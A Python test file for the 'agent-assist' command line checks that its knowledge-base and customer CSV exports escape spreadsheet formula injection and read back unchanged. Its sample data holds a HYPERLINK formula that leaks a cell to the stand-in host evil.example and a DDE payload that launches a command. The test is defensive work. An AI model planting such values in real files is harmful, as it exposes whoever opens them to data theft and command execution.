"""Issue 16, imports and exports: what an outside audit reproduced with real files through ``agent-assist``.

Every test runs the real command line in a subprocess on a real store under AGENT_ASSIST_HOME.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

from .test_cli import run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def test_kb_and_customer_csv_exports_never_hold_a_formula_and_read_back_unchanged(tmp_path: Path) -> None:
    home = tmp_path / "home"
    kb = tmp_path / "kb.jsonl"
    kb.write_text(
        json.dumps({"id": "k1", "title": EVIL, "body": "-1 then +2", "tags": ["@mention", "'=quoted"]})
        + "\n",
        encoding="utf-8",
    )
    crm = tmp_path / "crm.jsonl"
    crm.write_text(
        json.dumps(
            {"id": "c1", "name": "@SUM(1+1)", "company": "+cmd|' /C calc'!A0", "phones": ["+81 90 1234 5678"]}
        )
        + "\n",
        encoding="utf-8",
    )
    assert run(home, "kb", "import", str(kb)).returncode == 0
    assert run(home, "customers", "import", str(crm)).returncode == 0

    kb_out, crm_out = tmp_path / "kb-out.csv", tmp_path / "crm-out.csv"
    assert run(home, "kb", "export", str(kb_out)).returncode == 0
    assert run(home, "customers", "export", str(crm_out)).returncode == 0
    for path in (kb_out, crm_out):
        for row in _cells(path):
            for cell in row:
                assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (path.name, cell)
    header, row = _cells(kb_out)
    assert dict(zip(header, row, strict=True))["title"] == "'" + EVIL

    # Our own exports come back exactly as they went out.
    second = tmp_path / "home2"
    assert run(second, "kb", "import", str(kb_out)).returncode == 0
    assert run(second, "customers", "import", str(crm_out)).returncode == 0
    back = tmp_path / "back.jsonl"
    assert run(second, "kb", "export", str(back)).returncode == 0
    entry = json.loads(back.read_text(encoding="utf-8"))
    assert (entry["title"], entry["body"], entry["tags"]) == (EVIL, "-1 then +2", ["@mention", "'=quoted"])
    assert run(second, "customers", "export", str(back)).returncode == 0
    customer = json.loads(back.read_text(encoding="utf-8"))
    assert (customer["name"], customer["company"], customer["phones"]) == (
        "@SUM(1+1)",
        "+cmd|' /C calc'!A0",
        ["+81 90 1234 5678"],
    )
